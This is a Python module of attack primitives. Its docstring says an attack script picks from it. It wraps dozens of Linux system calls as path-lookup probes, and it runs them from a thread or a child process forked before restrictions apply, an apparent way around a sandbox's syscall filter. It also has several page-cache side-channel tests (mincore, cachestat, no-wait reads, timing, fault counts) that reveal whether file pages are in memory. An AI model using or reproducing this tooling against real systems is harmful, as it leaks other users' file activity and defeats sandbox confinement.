"""Ways to ask the kernel for a name, and to fetch a page or to ask for it; `call.py` of an attack picks some."""

import ctypes
import mmap
import os
import resource
import socket
import statistics
import threading
import time

import numpy as np

LIBC = ctypes.CDLL(None, use_errno=True)
AREA = ctypes.create_string_buffer(4096)
VECTOR = (ctypes.c_uint64 * 2)(ctypes.addressof(AREA), 1)
HOW = (ctypes.c_uint64 * 3)(0, 0, 0)
_maps, _handles, _limit = {}, {}, []


def access(path):
    os.access(path, 0)


def system_call(number, *arguments):
    """A way that calls the kernel with the path in the place of None."""

    def probe(path):
        name = path.encode()
        LIBC.syscall(number, *(name if argument is None else argument for argument in arguments))

    return probe


statx = system_call(332, -100, None, 0, 0x7FF, AREA)
openat2 = system_call(437, -100, None, HOW, 24)
faccessat2 = system_call(439, -100, None, 0, 0x200)
readlink = system_call(89, None, AREA, 100)
execve = system_call(59, None, 0, 0)
chdir = system_call(80, None)
truncate = system_call(76, None, 1)
getxattr = system_call(191, None, b"user.x", AREA, 100)
mkdir = system_call(83, None, 0o700)
rename = system_call(82, None, b"/tmp/renamed")
statfs = system_call(137, None, AREA)
file_handle = system_call(303, -100, None, AREA, AREA, 0)
acct = system_call(163, None)
swapon = system_call(167, None, 0)
chroot = system_call(161, None)
mount = system_call(165, b"none", None, b"tmpfs", 0, 0)
umount = system_call(166, None, 0)
uselib = system_call(134, None)
open_tree = system_call(428, -100, None, 0)
fspick = system_call(433, -100, None, 0)
quotactl = system_call(179, 0x80000100, None, 0, 0)
inotify = system_call(254, 0, None, 2)
fanotify = system_call(301, 0, 1, 2, -100, None)
setattr_mount = system_call(442, -100, None, 0, AREA, 32)
getxattrat = system_call(464, -100, None, 0, b"user.x", AREA, 16)


def _socket(kind):
    """Made once, before calls are refused."""
    if kind not in _handles:
        _handles[kind] = socket.socket(socket.AF_UNIX, kind)
    return _handles[kind]


def connect(path):
    """Connecting to a socket looks its path up."""
    name = path.encode()
    ours = _socket(socket.SOCK_STREAM)
    LIBC.connect(ours.fileno(), b"\1\0" + name + b"\0", len(name) + 3)


def send(path):
    """So does sending to it, from a socket that was made before."""
    ours = _socket(socket.SOCK_DGRAM)
    name = b"\1\0" + path.encode() + b"\0"
    kept = ctypes.create_string_buffer(name, len(name))
    header = (ctypes.c_uint64 * 7)(ctypes.addressof(kept), len(name), ctypes.addressof(VECTOR), 1, 0, 0, 0)
    LIBC.sendmsg(ours.fileno(), header, 0x40)


def in_a_child(probe):
    """The same calls, made by a child that was forked when nothing was refused yet."""
    ours, theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_SEQPACKET)
    if not os.fork():
        ours.close()
        while path := theirs.recv(4096):
            probe(path.decode())
            theirs.send(b"1")
        os._exit(0)
    theirs.close()

    def asked(path):
        os.write(ours.fileno(), path.encode())
        os.read(ours.fileno(), 1)

    return asked


def in_a_thread(probe):
    """The same calls, made by a thread that was started when nothing was refused yet."""
    question, answer, paths = threading.Semaphore(0), threading.Semaphore(0), []

    def work():
        while True:
            question.acquire()
            probe(paths.pop())
            answer.release()

    threading.Thread(target=work, daemon=True).start()

    def asked(path):
        paths.append(path)
        question.release()
        answer.acquire()

    return asked


def read_now(handle, page):
    """Whether a page is in memory: by a read that must not wait."""
    return LIBC.preadv2(handle, VECTOR, 1, ctypes.c_long(4096 * page), 8) == 1


def read_late(handle, page):
    """The same by a clock."""
    if not _limit:
        places = [37 * k for k in range(200)]
        first, again = ([_seconds(pread, handle, place) for place in places] for _ in range(2))
        _limit.append((statistics.median(first) + statistics.median(again)) / 2)
    return _seconds(pread, handle, page) < _limit[0]


def _seconds(call, *arguments):
    start = time.perf_counter_ns()
    call(*arguments)
    return time.perf_counter_ns() - start


def pread(handle, page):
    os.pread(handle, 1, 4096 * page)


def seek_and_read(handle, page):
    """By calls that every program makes, on a descriptor that was opened before."""
    os.lseek(handle, 4096 * page, 0)
    os.read(handle, 1)


def mapped(handle):
    if handle not in _maps:
        _maps[handle] = mmap.mmap(handle, 0, prot=mmap.PROT_READ)
        _maps[handle].madvise(mmap.MADV_RANDOM)
    return _maps[handle]


def touch(handle, page):
    """No call at all: memory that was mapped before is read."""
    return mapped(handle)[4096 * page]


def touch_costs_no_read(handle, page):
    """Whether a page is in memory: by the count of faults that had to wait for the disk."""
    area, before = mapped(handle), resource.getrusage(resource.RUSAGE_SELF).ru_majflt
    area[4096 * page]
    return resource.getrusage(resource.RUSAGE_SELF).ru_majflt == before


def send_file(handle, page):
    pipe = _handles["pipe"] = _handles.get("pipe") or os.pipe()
    os.splice(handle, pipe[1], 1, offset_src=4096 * page)
    os.read(pipe[0], 1)


def read_ahead(handle, page):
    LIBC.readahead(handle, ctypes.c_long(4096 * page), 4096)


def in_core(handle, page):
    """By mincore, which asks about a mapping."""
    place = np.frombuffer(mapped(handle), np.uint8).ctypes.data + 4096 * page
    return LIBC.mincore(ctypes.c_void_p(place), 4096, AREA) == 0 and AREA.raw[0] & 1


def cache_status(handle, page):
    """By cachestat, which counts the pages of a range."""
    extent, counts = (ctypes.c_uint64 * 2)(4096 * page, 4096), (ctypes.c_uint64 * 5)()
    return LIBC.syscall(451, handle, extent, counts, 0) == 0 and counts[0] == 1
